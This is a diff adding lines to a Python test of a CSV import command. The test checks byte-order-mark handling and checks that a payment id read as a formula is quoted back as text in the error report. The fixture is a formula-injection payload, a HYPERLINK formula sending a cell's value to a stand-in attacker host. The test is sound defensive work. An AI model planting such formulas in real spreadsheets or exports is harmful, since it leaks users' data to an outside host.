@@ -307,6 +307,16 @@ def test_the_command_reports_bad_lines_and_refuses_a_file_without_the_header(sql
         assert run_cli(env, "import", str(path), in_process=True).returncode == 2  # not UTF-8
         assert run_cli(env, "import", str(tmp_path / "missing.csv"), in_process=True).returncode == 2
         assert set(imported(books)) == {"P1", "P2", "R1"}
+
+        # Excel's "CSV UTF-8" starts with a byte-order mark: read as the header it precedes. A payment
+        # id that reads as a formula is quoted back as text in the report (helper-82).
+        formula = '=HYPERLINK("http://evil.example/"&A1)'
+        bad_line = row(formula, "purchase", "W1", "M1", "T1", at(20), 1000)
+        path.write_bytes(b"\xef\xbb\xbf" + csv_text([bad_line]).encode())
+        with_bom = run_cli(env, "import", str(path), "--errors", str(tmp_path / "bom.csv"), in_process=True)
+        assert with_bom.returncode == 1 and "header" not in with_bom.stderr, with_bom.stderr
+        report = list(csv.DictReader((tmp_path / "bom.csv").open(encoding="utf-8")))
+        assert [(r["payment_id"], r["code"]) for r in report] == [("'" + formula, "bad_field")]
     finally:
         books.close()
 
